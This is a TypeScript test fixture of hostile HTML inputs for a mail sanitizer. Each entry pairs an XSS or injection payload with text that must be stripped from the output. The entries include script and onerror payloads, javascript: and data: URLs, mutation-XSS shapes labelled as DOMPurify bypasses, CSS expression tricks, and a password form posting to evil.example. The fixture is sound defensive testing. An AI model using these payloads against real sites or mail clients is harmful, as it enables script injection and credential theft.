/**
 * Hostile HTML for the mail sanitizer: each entry is something a paste, a stored draft or a template could carry,
 * and `mustNotContain` what no output may have, whatever else happens to it. Shared by the unit tests (jsdom) and
 * the browser tests (Chromium), because parsers disagree exactly where attacks live.
 */
export interface HostileHtml {
  name: string;
  html: string;
  /** Case-insensitive text the sanitized HTML must not contain. */
  mustNotContain: string[];
  /** Text a reader must still see (the attack goes, the words stay). */
  keeps?: string;
}

export const hostileHtml: HostileHtml[] = [
  {
    name: 'script element',
    html: '<p>こんにちは</p><script>alert(1)</script>',
    mustNotContain: ['<script', 'alert'],
    keeps: 'こんにちは',
  },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>写真', mustNotContain: ['onerror', '<img'], keeps: '写真' },
  {
    name: 'javascript: link',
    html: '<a href="javascript:alert(1)">クリック</a>',
    mustNotContain: ['javascript', 'href'],
    keeps: 'クリック',
  },
  {
    name: 'javascript: link with entities and tabs',
    html: '<a href="jav&#x09;ascript&#58;alert(1)">x</a>',
    mustNotContain: ['javascript', 'href', 'alert'],
  },
  {
    name: 'javascript: link with leading control character',
    html: '<a href="&#1;javascript:alert(1)">x</a>',
    mustNotContain: ['javascript', 'href'],
  },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', mustNotContain: ['vbscript', 'href'] },
  {
    name: 'data: html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    mustNotContain: ['data:', 'href'],
  },
  {
    name: 'data: svg image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
    mustNotContain: ['data:', 'svg', '<img'],
  },
  {
    name: 'svg with script',
    html: '<svg><script>alert(1)</script><circle r="5"/></svg>本文',
    mustNotContain: ['<svg', '<script', 'alert', 'circle'],
    keeps: '本文',
  },
  {
    name: 'svg onload',
    html: '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">x</a></svg>',
    mustNotContain: ['svg', 'onload', 'javascript', 'xlink'],
  },
  {
    name: 'mathml mutation (DOMPurify bypass shape)',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    mustNotContain: ['onerror', '<math', '<style', '<img', 'alert'],
  },
  {
    name: 'noscript mutation',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    mustNotContain: ['onerror', '<img', '<noscript'],
  },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>後',
    mustNotContain: ['iframe', 'srcdoc', 'script'],
    keeps: '後',
  },
  {
    name: 'form with action',
    html: '<form action="https://evil.example/collect"><input name="password"><button>送信</button></form>',
    mustNotContain: ['<form', 'action', '<input', '<button', 'evil.example'],
  },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle="alert(1)"><summary>詳細</summary></details>',
    mustNotContain: ['ontoggle', 'details', 'alert'],
  },
  {
    name: 'style element with import',
    html: '<style>@import url(https://evil.example/x.css); p{color:red}</style><p>x</p>',
    mustNotContain: ['<style', '@import', 'evil.example'],
  },
  {
    name: 'CSS url() in a style attribute',
    html: '<div style="background:url(javascript:alert(1));color:red">x</div>',
    mustNotContain: ['url(', 'javascript'],
  },
  {
    name: 'CSS expression()',
    html: '<span style="color:expression(alert(1))">x</span>',
    mustNotContain: ['expression', 'alert'],
  },
  {
    name: 'CSS escapes',
    html: '<span style="color:\\65 xpression(alert(1));background:\\75rl(x)">x</span>',
    mustNotContain: ['xpression', '\\', 'rl('],
  },
  {
    name: 'CSS position overlay',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">偽のログイン</div>',
    mustNotContain: ['position', 'fixed', 'z-index'],
    keeps: '偽のログイン',
  },
  {
    name: 'object and embed',
    html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    mustNotContain: ['<object', '<embed', 'evil.example'],
  },
  {
    name: 'meta refresh and base',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    mustNotContain: ['<meta', 'refresh', '<base', 'evil.example'],
  },
  {
    name: 'link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.example/x.css">本文',
    mustNotContain: ['<link', 'evil.example'],
  },
  {
    name: 'DOM clobbering ids and names',
    html: '<img name="getElementById" src="cid:a@b"><a id="location" name="cookie" href="https://ok.example/">x</a>',
    mustNotContain: ['name=', 'id=', 'getElementById'],
  },
  {
    name: 'remote tracking pixel',
    html: '<p>本文<img src="https://tracker.example/p.gif?u=1" width="1" height="1"></p>',
    mustNotContain: ['tracker.example', '<img'],
    keeps: '本文',
  },
  {
    name: 'file: image from Word',
    html: '<img src="file:///C:/Users/taro/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" alt="図 1">',
    mustNotContain: ['file:', '<img'],
    keeps: '[図 1]',
  },
  {
    name: 'template element',
    html: '<template><script>alert(1)</script></template>本文',
    mustNotContain: ['template', 'script'],
  },
  { name: 'comment breakout', html: '<!--><img src=x onerror=alert(1)>-->', mustNotContain: ['onerror', '<img'] },
  {
    name: 'select/style mutation',
    html: '<select><style><img src=x onerror=alert(1)></style></select>',
    mustNotContain: ['onerror', '<select', '<style'],
  },
  {
    name: 'target=_blank and classes',
    html: '<a href="https://ok.example/" target="_blank" class="btn" data-track="1">リンク</a>',
    mustNotContain: ['target', 'class', 'data-track'],
    keeps: 'リンク',
  },
  {
    name: 'srcset and background attributes',
    html: '<img src="cid:a@b" srcset="https://evil.example/x.png 2x"><table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    mustNotContain: ['srcset', 'background', 'javascript', 'evil.example'],
  },
  {
    name: 'style attribute breaking out of its quotes',
    html: "<span style='color:red;\"><img src=x onerror=alert(1)>'>x</span>",
    mustNotContain: ['onerror', '<img'],
  },
];
